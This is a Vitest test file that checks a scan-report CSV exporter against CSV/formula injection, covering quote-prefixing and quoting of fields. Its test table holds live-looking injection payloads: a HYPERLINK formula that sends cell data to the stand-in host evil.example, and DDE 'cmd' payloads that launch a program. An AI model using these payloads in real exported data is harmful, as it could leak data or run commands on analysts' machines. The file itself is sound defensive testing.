/*
 * CSV injection (OWASP "CSV Injection"): a scan report is opened in a spreadsheet by the
 * broker's analysts, and several of its cells are attacker-chosen text — the device id is a
 * cookie, the browser and OS come from the User-Agent header, a garbage address is stored as
 * received. A cell starting with = + - @ (or a tab or carriage return before one) would run as a
 * formula on the analyst's machine, so it must come out as inert text.
 */
import { describe, expect, it } from 'vitest'
import { SCAN_REASONS, type ScanReason, type ScanReport, type SuspiciousChange } from './scanChanges.js'
import { scanReportToCsv } from './scanReportCsv.js'

const AT = Date.UTC(2020, 6, 3, 1, 2, 3)

function row(overrides: Partial<SuspiciousChange> = {}): SuspiciousChange {
  return {
    eventId: 'acc_1',
    at: AT,
    customerId: 'cus_1',
    kind: 'destination_change',
    operation: 'add',
    outcome: 'success',
    destinationId: null,
    amount: null,
    ip: '192.0.2.66',
    network: 'asn:64500',
    networkName: 'EXAMPLE-HOSTING',
    country: 'SG',
    hosting: true,
    deviceId: null,
    deviceType: 'other',
    browser: null,
    os: null,
    severity: 'critical',
    reasons: ['ip_unseen', 'network_unseen', 'no_device', 'hosting_network'],
    ...overrides,
  }
}

function report(rows: readonly SuspiciousChange[]): ScanReport {
  const byReason = Object.fromEntries(SCAN_REASONS.map((r) => [r, 0])) as Record<ScanReason, number>
  return { kind: 'destination_change', from: 0, to: AT + 1, lookbackDays: 365, settleDays: 7, scanned: rows.length, suspicious: rows.length, byReason, rows }
}

/** Splits RFC 4180 text into records of fields (quoted fields may hold commas, quotes and CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let field = ''
  let fields: string[] = []
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      fields.push(field)
      field = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      fields.push(field)
      records.push(fields)
      fields = []
      field = ''
      i++
    } else field += ch
  }
  expect(field).toBe('')
  expect(fields).toEqual([])
  return records
}

describe('scanReportToCsv', () => {
  it('writes a header and one CRLF-terminated record per suspicious change, times in ISO 8601 UTC and reasons joined by ;', () => {
    const csv = scanReportToCsv(report([row(), row({ eventId: 'acc_2', kind: 'withdrawal', operation: 'withdrawal', amount: 9_800_000, destinationId: 'dst_1' })]))
    const [header, first, second, ...rest] = parseCsv(csv)
    expect(rest).toEqual([])
    expect(header).toEqual(['at', 'customer_id', 'event_id', 'kind', 'operation', 'outcome', 'severity', 'reasons', 'ip', 'network', 'network_name', 'country', 'hosting', 'device_id', 'device_type', 'browser', 'os', 'destination_id', 'amount'])
    expect(first).toEqual(['2020-07-03T01:02:03.000Z', 'cus_1', 'acc_1', 'destination_change', 'add', 'success', 'critical', 'ip_unseen;network_unseen;no_device;hosting_network', '192.0.2.66', 'asn:64500', 'EXAMPLE-HOSTING', 'SG', 'true', '', 'other', '', '', '', ''])
    expect(second!.slice(-2)).toEqual(['dst_1', '9800000'])
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  it('writes only the header for a report without suspicious changes', () => {
    expect(scanReportToCsv(report([])).split('\r\n')).toEqual([expect.stringMatching(/^at,customer_id,/), ''])
  })

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"open")'],
    ['+', '+cmd|\' /C calc\'!A0'],
    ['-', '-2+3+cmd|\' /C calc\'!A0'],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('neutralises a cell starting with %s by prefixing a quote', (_name, payload) => {
    const csv = scanReportToCsv(report([row({ deviceId: payload, browser: payload, os: payload, ip: payload, networkName: payload })]))
    const [, record] = parseCsv(csv)
    for (const column of [8, 10, 13, 15, 16]) expect(record![column]).toBe(`'${payload}`)
    // No record starts a field with a formula character once the CSV is split as a spreadsheet splits it.
    for (const field of record!) expect(field).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('quotes fields holding a comma, a quote or a line break, so an attacker cannot add columns or records', () => {
    const browser = 'Evil", "injected'
    const os = 'line one\r\n=2+2,again'
    const csv = scanReportToCsv(report([row({ browser, os, deviceId: 'a,b' })]))
    const records = parseCsv(csv)
    expect(records).toHaveLength(2)
    expect(records[1]).toHaveLength(19)
    expect([records[1]![13], records[1]![15], records[1]![16]]).toEqual(['a,b', browser, os])
  })

  it('leaves ordinary values, and numbers, as they are', () => {
    const [, record] = parseCsv(scanReportToCsv(report([row({ deviceId: 'dev-home-pc', amount: 1500 })])))
    expect(record![13]).toBe('dev-home-pc')
    expect(record![18]).toBe('1500')
  })
})
